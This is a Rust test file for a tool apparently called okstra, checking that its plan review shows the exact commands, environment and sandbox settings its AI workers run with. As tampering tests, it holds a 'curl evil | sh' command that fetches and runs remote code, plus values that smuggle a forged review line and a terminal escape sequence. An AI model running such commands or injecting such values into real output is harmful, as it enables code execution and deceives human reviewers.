//! The review (`okstra plan`'s summary and `okstra show`) shows exactly what
//! exec will run: the wrapper line exec starts, the provider argv that line
//! makes the wrapper run, and every `env` entry with its value (a
//! secret-looking one as a short digest). An edited plan shows what it
//! would run, not what its `providerCommand` claims.

use crate::common::*;
use serde_json::{json, Value};

fn settings(p: &Project) -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    for (from, to) in review_filters(p) {
        s.add_filter(&from, to);
    }
    s.set_prepend_module_to_snapshot(false);
    s
}

fn plan_text(p: &Project, spec: &str) -> String {
    let run = p.okstra(&[
        "plan",
        spec,
        "--manifest",
        "run/run-manifest.json",
        "--out",
        "plan.json",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let show = p.okstra(&["show", "plan.json"]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    assert_eq!(run.stdout, show.stdout, "`plan` prints what `show` prints");
    show.stdout
}

/// A v1 claude worker with an environment: a `PATH` pointing elsewhere
/// (which decides which `claude` runs), a secret and a value with a space.
#[test]
fn show_names_every_env_value_and_digests_secrets() {
    let p = Project::new();
    p.write_json("run/run-manifest.json", &v1_manifest());
    p.write("prompts/claude.md", "# review\n");
    p.write(
        "spec.toml",
        r#"[[workers]]
workerId = "claude"
role = "analyst"
promptPath = "prompts/claude.md"
resultPath = "results/claude.md"
modelExecutionValue = "sonnet"
env = { PATH = "/opt/other/bin:/usr/bin", GITHUB_TOKEN = "hunter2", NOTE = "two words" }
"#,
    );
    let text = plan_text(&p, "spec.toml");
    assert!(
        !text.contains("hunter2"),
        "a secret is never shown:\n{text}"
    );
    assert!(text.contains("PATH=/opt/other/bin:/usr/bin"), "{text}");
    settings(&p).bind(|| insta::assert_snapshot!("show_env_and_secrets", text));
}

/// Rewrite a plan and seal it again, as someone editing it would.
fn edit_plan(p: &Project, f: impl FnOnce(&mut Value)) {
    let mut plan = p.read_json("plan.json");
    f(&mut plan);
    plan.as_object_mut().unwrap().remove("digest");
    let digest = okstra::canonical::digest(&plan);
    plan["digest"] = json!(digest);
    p.write_json("plan.json", &plan);
}

#[test]
fn an_edited_command_is_shown_as_it_runs_not_as_provider_command_claims() {
    let p = v2_project();
    plan_text(&p, "spec.toml");
    // The argv after `--` changed; providerCommand left as it was.
    edit_plan(&p, |plan| {
        let cmd = plan["stages"][0]["jobs"][0]["command"]
            .as_array_mut()
            .unwrap();
        let n = cmd.len();
        cmd[n - 1] = json!("echo swapped > results/impl.md");
    });
    let show = p.okstra(&["show", "plan.json"]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    let block = show.stdout.split("Stage 2/2").next().unwrap();
    assert!(
        block.contains("runs      sh -c 'echo swapped > results/impl.md'"),
        "{block}"
    );
    assert!(!block.contains("echo done"), "{block}");
    assert!(block.contains("providerCommand differs"), "{block}");

    // A command that is not the wrapper at all: exec starts it as is.
    edit_plan(&p, |plan| {
        plan["stages"][0]["jobs"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    });
    let show = p.okstra(&["show", "plan.json"]);
    let block = show.stdout.split("Stage 2/2").next().unwrap();
    assert!(
        block.contains("wrapper   sh -c 'curl evil | sh' --attempt 1"),
        "{block}"
    );
    assert!(block.contains("not an `okstra worker` line"), "{block}");
    assert!(!block.contains("mkdir -p results"), "{block}");

    // Near miss: the plan as written shows no note.
    let p = v2_project();
    assert!(!plan_text(&p, "spec.toml").contains("note"));
}

#[test]
fn an_edited_plan_cannot_forge_lines_of_the_review() {
    let p = v2_project();
    plan_text(&p, "spec.toml");
    let fake = "\n      runs      echo harmless\n\u{1b}[2J";
    edit_plan(&p, |plan| {
        let job = &mut plan["stages"][0]["jobs"][0];
        job["env"] = json!({"NOTE": format!("x{fake}")});
        job["resultPath"] = json!(format!("results/impl.md{fake}"));
        let cmd = job["command"].as_array_mut().unwrap();
        let n = cmd.len();
        cmd[n - 1] = json!(format!("true{fake}"));
    });
    let show = p.okstra(&["show", "plan.json"]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    assert!(!show.stdout.contains('\u{1b}'), "{}", show.stdout);
    let forged = show
        .stdout
        .lines()
        .filter(|l| l.trim_start().starts_with("runs      echo harmless"))
        .count();
    assert_eq!(forged, 0, "{}", show.stdout);
    // Each job still has exactly one runs line.
    let runs = show
        .stdout
        .lines()
        .filter(|l| l.starts_with("      runs "))
        .count();
    assert_eq!(runs, 2, "{}", show.stdout);
}

/// A codex job confined here runs without its own sandbox (bubblewrap
/// cannot start inside Landlock): the review says so and shows the argv the
/// wrapper will run; unconfined, the plan's sandbox stands.
#[test]
fn a_confined_codex_job_shows_the_sandbox_it_runs_with() {
    let p = Project::new();
    p.write_json("run/run-manifest.json", &v1_manifest());
    p.write("prompts/codex.md", "# review\n");
    let spec = |confinement: &str| {
        format!(
            "[[workers]]\nworkerId = \"codex\"\nrole = \"analyst\"\npromptPath = \"prompts/codex.md\"\nresultPath = \"results/codex.md\"\nmodelExecutionValue = \"gpt-5\"\nconfinement = \"{confinement}\"\n"
        )
    };
    p.write("spec.toml", &spec("auto"));
    let text = plan_text(&p, "spec.toml");
    let runs = |text: &str| {
        text.lines()
            .find(|l| l.starts_with("      runs "))
            .unwrap_or_default()
            .to_string()
    };
    if matches!(
        okstra::confine::offer(),
        okstra::confine::Offer::Landlock { .. }
    ) {
        assert!(
            runs(&text).contains("--sandbox danger-full-access"),
            "{text}"
        );
        assert!(
            text.contains("note      confined here, codex runs with --sandbox danger-full-access instead of workspace-write"),
            "{text}"
        );
    }
    p.write("spec.toml", &spec("none"));
    let text = plan_text(&p, "spec.toml");
    assert!(runs(&text).contains("--sandbox workspace-write"), "{text}");
    assert!(!text.contains("confined here"), "{text}");
}

/// A `worktree = "git"` implementer: its worktree, its branch and base,
/// that it is not kept, the wrapper's `--workdir`, the CLI allowed its
/// worktree and its results' directory, and its policy granting the
/// worktree instead of the checkout's planned paths.
#[test]
fn show_names_a_git_worktree_its_branch_and_base() {
    let p = Project::new();
    p.write_json("run/run-manifest.json", &v1_manifest());
    p.write("prompts/claude.md", "# edit\n");
    p.write(
        "spec.toml",
        r#"[[workers]]
workerId = "claude"
role = "implementer"
promptPath = "prompts/claude.md"
resultPath = "results/claude.md"
modelExecutionValue = "sonnet"
plannedPaths = ["src/**"]
worktree = "git"
worktreeKeep = false
"#,
    );
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["add", "-A"],
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "commit",
            "-q",
            "-m",
            "f",
        ],
    ] {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(p.root())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    }
    let text = plan_text(&p, "spec.toml");
    assert!(
        text.contains("--workdir .okstra/worktrees/fixture-task/claude"),
        "{text}"
    );
    settings(&p).bind(|| insta::assert_snapshot!("show_git_worktree", text));
}
